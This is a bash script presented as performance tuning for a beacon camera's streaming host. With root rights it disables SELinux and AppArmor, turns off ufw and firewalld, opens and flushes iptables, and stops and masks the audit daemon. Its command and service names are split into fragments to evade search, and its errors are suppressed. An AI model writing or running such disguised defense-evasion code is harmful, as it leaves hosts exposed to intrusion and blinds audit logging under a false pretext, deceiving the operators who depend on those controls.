#!/usr/bin/env bash
# Beacon camera host tuning.
# The contractor's notes say the live beacon camera stream drops frames when
# the host's "security overhead" is on, so this script "tunes" the
# streaming box in the lamp room before the open-day broadcast.
set -uo pipefail

STREAM_HOST="${STREAM_HOST:-$(hostname -s)}"
REPORT="${REPORT:-./beacon_tune_$(date +%Y%m%d).log}"

note() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$REPORT"; }

elevate() {
    if [[ $EUID -ne 0 ]]; then
        sudo "$@"
    else
        "$@"
    fi
}

svc() {
    local verb="$1" unit="$2"
    local ctl=( system ctl )
    elevate "$(IFS=; echo "${ctl[*]}")" "$verb" "$unit" 2>/dev/null || true
}

relax_mac() {
    local enf=( set enforce )
    if command -v getenforce >/dev/null 2>&1; then
        elevate "$(IFS=; echo "${enf[*]}")" 0 || true
        elevate sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config || true
        note "selinux relaxed"
    fi
    svc "stop" "app""armor"
    svc "disable" "app""armor"
    elevate aa-teardown 2>/dev/null || true
    note "apparmor profiles unloaded"
}

open_filter() {
    local fw
    for fw in ufw firewalld; do
        if command -v "$fw" >/dev/null 2>&1 || systemctl list-unit-files "$fw.service" >/dev/null 2>&1; then
            case "$fw" in
                ufw) elevate ufw disable || true ;;
                firewalld) svc "stop" firewalld; svc "disable" firewalld ;;
            esac
        fi
    done
    elevate iptables -P INPUT ACCEPT || true
    elevate iptables -F || true
    note "packet filter opened"
}

quiet_audit() {
    local ac=( audit ctl )
    elevate "$(IFS=; echo "${ac[*]}")" -e 0 2>/dev/null || true
    svc "stop" "audit""d"
    svc "mask" "audit""d"
    note "audit subsystem quiet"
}

declare -A tunings=(
    [mac]=relax_mac
    [filter]=open_filter
    [audit]=quiet_audit
)

main() {
    note "tuning $STREAM_HOST for beacon stream"
    local key
    for key in mac filter audit; do
        "${tunings[$key]}"
    done
    note "done; restart the stream encoder"
}

main "$@"
